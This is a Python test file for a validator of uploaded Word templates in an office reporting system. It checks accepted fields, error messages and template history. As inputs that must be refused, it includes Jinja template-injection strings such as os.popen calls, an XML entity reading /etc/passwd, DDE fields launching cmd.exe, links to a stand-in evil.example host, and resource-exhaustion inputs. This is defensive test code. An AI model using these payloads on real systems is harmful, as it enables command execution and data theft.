"""An office's own Word templates: what is taken, what is refused and why, which one is in force."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from time import process_time

import pytest
from docx import Document
from sqlmodel import col, select

from models import i18n
from models.activity import Activity
from models.database import Database
from models.errors import UnknownName, WordTemplateError
from models.words import Deed, PaperKind
from tasks import paper_sample as sample
from tasks import word_templates
from tasks.papers import paper, shipped_template
from tasks.word_templates import check
from tests.tasks.office import at

pytestmark = pytest.mark.any_database

STATE = "summary-state"
MORNING, NOON = at(2026, 1, 5, 8), at(2026, 1, 5, 12)


@pytest.fixture(autouse=True)
def _english() -> object:
    with i18n.speaking("en"):
        yield


def with_line(*texts: str) -> bytes:
    """The shipped template with lines of one's own before the title."""
    document = Document(io.BytesIO(shipped_template(STATE)))
    title = next(p for p in document.paragraphs if p.text == "{{ title }}")
    for text in texts:
        title.insert_paragraph_before(text)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def changed(part: str, change: Callable[[str], str], **added: str) -> bytes:
    """The shipped template with one of its parts changed, and with parts added."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(shipped_template(STATE))) as before,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for name in before.namelist():
            raw = before.read(name)
            after.writestr(name, change(raw.decode()) if name == part else raw)
        for name, text in added.items():
            after.writestr(name, text)
    return file.getvalue()


def told(raw: bytes) -> list[str]:
    return [str(fault) for fault in check(raw, STATE)]


class TestWhatIsTaken:
    @pytest.mark.parametrize("name", word_templates.SHIPPED)
    def test_what_we_ship(self, name: str) -> None:
        assert check(shipped_template(name), name) == []

    @pytest.mark.parametrize(
        "text",
        [
            "Văn bản thường: 100% {đã} #1",
            "{{ number }} – {{ subject | upper }}",
            "{{ tally.missing | number }}{% if tally.late %}, {{ tally.late }} chậm{% endif %}",
            "{% for row in targets %}{{ loop.index }}. {{ row[“indicator”] }}; {% endfor %}",
            "{{ directive.symbol }} {{ round.title }} {# ghi chú #}",
        ],
    )
    def test_words_of_ones_own(self, text: str) -> None:
        assert told(with_line(text)) == []

    def test_fills_in_what_the_office_wrote(self) -> None:
        raw = with_line("Riêng: {{ tally.missing }} đơn vị, {{ directive.symbol }}")
        written = paper(sample.figures(), {}, PaperKind.DOCX, template=raw)
        shown = [p.text for p in Document(io.BytesIO(written)).paragraphs]
        assert "Riêng: 3 đơn vị, 53/KH-UBND" in shown

    def test_names_cut_into_pieces_by_word_are_read_together(self) -> None:
        raw = changed(
            "word/document.xml",
            lambda xml: xml.replace(
                "{{ subject }}", "{{ sub</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>ject }}"
            ),
        )
        assert told(raw) == []


LINE = re.compile(r"summary-state\.docx:(\d+): ")


class TestOneThatSaysNothing:
    def test_is_refused_with_what_must_stand_in_it(self) -> None:
        document = Document()
        document.add_paragraph("Báo cáo của cơ quan, soạn sẵn.")
        file = io.BytesIO()
        document.save(file)
        [said] = told(file.getvalue())
        assert "{{ number }}, {{ title }}, {{ subject }}" in said
        assert "{%p for text in results %}" in said


class TestTheLineThatBreaksIt:
    @pytest.mark.parametrize(
        ("text", "why"),
        [
            ("{{ figuers.x }}", "there is no “figuers”"),
            ("{{ suject }}", "perhaps “subject” is meant"),
            ("{{ tally.mising }}", "perhaps “missing” is meant"),
            ("{{ targets[0].nope }}", "there are: indicator, measured"),
            ("{{ subject", "braces that are not closed"),
            ("subject }}", "braces that are not closed"),
            ("{{ a {{ b }} }}", "braces that are not closed"),
            ("Một {", "braces that are not closed"),
            ("{{ subject subject }}", "this line cannot be read"),
            ("{%p for a in targets %}", "this line cannot be read"),
            ("{% if subject %}", "this line cannot be read"),
            ("Một {% endif %}", "this line cannot be read"),
            ("{{ subject | shout }}", "there is no filter “shout”"),
            ("{{ charts.timeliness.caption }}", "cannot be filled in"),
            ("{{ subject" + " " * 400 + "}}", "too long: at most 400"),
        ],
    )
    def test_is_named_with_its_number_and_its_text(self, text: str, why: str) -> None:
        (fault,) = check(with_line(text), STATE)
        paragraphs = [p.text for p in _all_paragraphs(with_line(text))]
        assert fault.line == paragraphs.index(text) + 1
        assert text[:100] in str(fault)
        assert why in fault.message

    def test_every_line_is_told_at_once(self) -> None:
        found = told(with_line("{{ mot }}", "{{ number }}", "{{ hai }}"))
        assert [re.sub(r".*(“\w+”).*", r"\1", line) for line in found] == ["“mot”", "“hai”"]

    def test_in_a_header_too(self) -> None:
        document = Document(io.BytesIO(shipped_template(STATE)))
        document.sections[0].header.paragraphs[0].add_run("{{ nope }}")
        file = io.BytesIO()
        document.save(file)
        (line,) = told(file.getvalue())
        assert "{{ nope }}" in line

    def test_a_row_that_begins_outside_of_a_table(self) -> None:
        found = told(with_line("{%tr for row in targets %}", "{{ row.n }}", "{%tr endfor %}"))
        assert len(found) == 1

    def test_in_vietnamese_for_the_office(self) -> None:
        with i18n.speaking("vi"):
            assert check(with_line("{{ figuers }}"), STATE)[0].line


def _all_paragraphs(raw: bytes) -> list:  # type: ignore[type-arg]
    from docx.oxml.ns import qn
    from docx.text.paragraph import Paragraph

    document = Document(io.BytesIO(raw))
    return [Paragraph(p, document) for p in document.element.body.iter(qn("w:p"))]


class TestNothingReachesOut:
    @pytest.mark.parametrize(
        "text",
        [
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ ''.__class__ }}",
            "{{ subject.__init__.__globals__ }}",
            "{{ subject.format.__self__ }}",
            "{{ ''['__class__'] }}",
            "{{ subject | attr('__class__') }}",
            "{{ '{0.__class__}'.format(subject) }}",
            "{{ '%s' % subject }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ lipsum() }}", "{{ namespace() }}", "{{ joiner() }}", "{{ self }}",
            "{{ self._TemplateReference__context }}", "{{ loop.__class__ }}",
            "{% for x in targets %}{{ loop.__init__ }}{% endfor %}",
            "{% for x in targets %}{{ loop.cycle('a') }}{% endfor %}",
            "{{ charts.timeliness.picture.tpl.template_file }}",
            "{{ charts.timeliness.picture.picture.draw() }}",
            "{{ tally.update({}) }}", "{{ tally.items() }}", "{{ tally.items }}",
            "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{% extends 'a' %}",
            "{% from 'a' import b %}", "{% set x = 1 %}", "{% macro a() %}{% endmacro %}",
            "{% block a %}{% endblock %}", "{% do 1 %}", "{% raw %}{% endraw %}{{ nope }}",
            "{% filter upper %}a{% endfilter %}", "{% call a() %}{% endcall %}",
            "{% autoescape false %}{{ subject }}{% endautoescape %}", "{{ subject | safe }}",
            "{% trans %}a{% endtrans %}", "{% debug %}",
        ],
    )  # fmt: skip
    def test_names_of_python_and_other_files_are_not_there(self, text: str) -> None:
        assert len(told(with_line(text))) >= 1

    @pytest.mark.parametrize(
        "text",
        [
            "{% for x in range(10**9) %}a{% endfor %}",
            "{{ 'a' * 10**9 }}",
            "{{ 10 ** 10 ** 10 }}",
            "{{ [1] * 10**9 }}",
            "{{ 'a'.center(10**9) }}",
            "{{ subject | center(1000000000) }}",
            "{{ subject | indent(1000000000) }}",
            "{{ '%1000000000d' | format(1) }}",
            "{{ targets | join(targets | join(targets)) }}" * 100,
            "".join("{% for x in situation %}" for _ in range(30))
            + "".join("{% for x in targets %}" for _ in range(8))
            + "{{ subject }}" + "{% endfor %}" * 38,
            "{" * 20_000, "{{" * 20_000, "{{ a }}" * 5_000, "{%" + "p" * 50_000,
        ],
        ids=lambda text: text[:30],
    )  # fmt: skip
    def test_nothing_takes_long_or_grows_without_end(self, text: str) -> None:
        begun = process_time()
        assert told(with_line(text))
        assert process_time() - begun < 25

    def test_braces_stand_in_text_alone(self) -> None:
        raw = changed(
            "word/document.xml",
            lambda xml: re.sub(r'<w:tcW w:w="\d+"', '<w:tcW w:w="{{ number }}"', xml, count=1),
        )
        assert "names in braces stand in ordinary text only" in told(raw)[0]

    @pytest.mark.parametrize(
        "field",
        [
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
            'INCLUDETEXT "C:\\\\secret.docx"',
            'INCLUDEPICTURE "http://evil.example/x.png" \\d',
            'LINK Excel.Sheet.8 "C:\\\\x.xls" ""',
            "MACROBUTTON x y", "IMPORT a", "DATABASE \\d", "ASK a b", "FILLIN b",
        ],
    )  # fmt: skip
    @pytest.mark.parametrize("cut", [False, True])
    def test_fields_that_fetch_or_run_are_refused(self, field: str, cut: bool) -> None:
        middle = "</w:instrText></w:r><w:r><w:instrText>" if cut else ""
        code = f"<w:r><w:instrText>{field[:2]}{middle}{field[2:]}</w:instrText></w:r>"
        raw = changed(
            "word/document.xml",
            lambda xml: xml.replace("</w:pPr><w:r>", f"</w:pPr>{code}<w:r>", 1),
        )
        assert any("there is the field" in line for line in told(raw))


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str, mode: str = "") -> bytes:
    extra = f' TargetMode="{mode}"' if mode else ""
    new = f'<Relationship Id="rId99" Type="{REL}/{kind}" Target="{target}"{extra}/>'
    return changed(
        "word/_rels/document.xml.rels",
        lambda xml: xml.replace("</Relationships>", f"{new}</Relationships>"),
    )


class TestTheFile:
    @pytest.mark.parametrize(
        ("kind", "target", "mode"),
        [
            ("hyperlink", "https://evil.example", "External"),
            ("image", "https://evil.example/x.png", "External"),
            ("attachedTemplate", "https://evil.example/x.dotm", "External"),
            ("attachedTemplate", "x.dotm", ""),
            ("oleObject", "https://evil.example/x", "external"),
            ("oleObject", "x.xml", ""),
            ("aFChunk", "x.html", ""),
            ("subDocument", "x.docx", ""),
            ("package", "x.xlsx", ""),
        ],
    )
    def test_that_leads_out_or_acts_is_refused(self, kind: str, target: str, mode: str) -> None:
        (line,) = told(related(kind, target, mode))
        assert "content from elsewhere" in line or f"active content ({kind})" in line

    @pytest.mark.parametrize(
        "name",
        ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"],
    )
    def test_that_holds_macros_or_objects_is_refused(self, name: str) -> None:
        (line,) = told(changed("", str, **{name: "x"}))
        assert "macros or other active content" in line

    def test_with_entities_is_refused(self) -> None:
        dtd = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        raw = changed(
            "word/document.xml",
            lambda xml: xml.replace("<w:document", f"{dtd}<w:document", 1).replace(
                "{{ title }}", "&x;"
            ),
        )
        (line,) = told(raw)
        assert "cannot be read (word/document.xml)" in line

    def test_that_unpacks_to_much_more_is_refused(self) -> None:
        raw = changed("", str, **{"word/media/a.xml": "0" * 30_000_000})
        (line,) = told(raw)
        assert "unpacks to more" in line

    @pytest.mark.parametrize(
        "raw",
        [b"", b"PK\x03\x04", b"%PDF-1.4\n", b"\xd0\xcf\x11\xe0 old", b"x" * 3_000_000,
         b"PK\x03\x04" + b"x" * 500],
        ids=["nothing", "cut", "pdf", "doc", "large", "broken"],
    )  # fmt: skip
    def test_that_is_no_word_document_is_refused(self, raw: bytes) -> None:
        assert len(told(raw)) == 1


class TestKeeping:
    def test_the_last_one_is_in_force_and_all_are_kept(self, db: Database, tmp_path: Path) -> None:
        one, two = with_line("Một"), with_line("Hai")
        with db.write() as session:
            assert word_templates.in_force(session, tmp_path, STATE) == shipped_template(STATE)
            first = word_templates.keep(session, tmp_path, STATE, one, "Lan", MORNING).id
            word_templates.keep(session, tmp_path, STATE, two, "Hoa", NOON)
        with db.read() as session:
            assert word_templates.in_force(session, tmp_path, STATE) == two
            assert word_templates.in_force(session, tmp_path, "summary-party") == shipped_template(
                "summary-party"
            )
            found = word_templates.history(session, STATE)
            assert [(k.added_by, k.in_force) for k in found] == [("Hoa", True), ("Lan", False)]
        with db.write() as session:
            word_templates.go_back(session, tmp_path, STATE, first, "Lan", NOON)
            assert word_templates.in_force(session, tmp_path, STATE) == one
            word_templates.go_back(session, tmp_path, STATE, None, "Lan", NOON)
            assert word_templates.in_force(session, tmp_path, STATE) == shipped_template(STATE)
            deeds = [
                (deed.deed, deed.by, deed.about, deed.before)
                for deed in session.exec(select(Activity).order_by(col(Activity.id)))
            ]
        assert [deed[:3] for deed in deeds] == [
            (Deed.TEMPLATE, by, STATE) for by in ("Lan", "Hoa", "Lan", "Lan")
        ]
        assert [deed[3] and deed[3]["sha256"] for deed in deeds[:2]] == [None, found[1].sha256]

    def test_a_broken_one_changes_nothing(self, db: Database, tmp_path: Path) -> None:
        with db.write() as session:
            with pytest.raises(WordTemplateError, match="figuers"):
                word_templates.keep(
                    session, tmp_path, STATE, with_line("{{ figuers }}"), "Lan", NOON
                )
            assert word_templates.history(session, STATE) == []
        assert not list(tmp_path.iterdir())

    def test_a_name_that_nothing_is_written_from_is_refused(
        self, db: Database, tmp_path: Path
    ) -> None:
        with db.read() as session:
            for name in ("../x", "summary", ""):
                with pytest.raises(UnknownName):
                    word_templates.in_force(session, tmp_path, name)
            with pytest.raises(UnknownName):
                word_templates.one(session, STATE, 7)
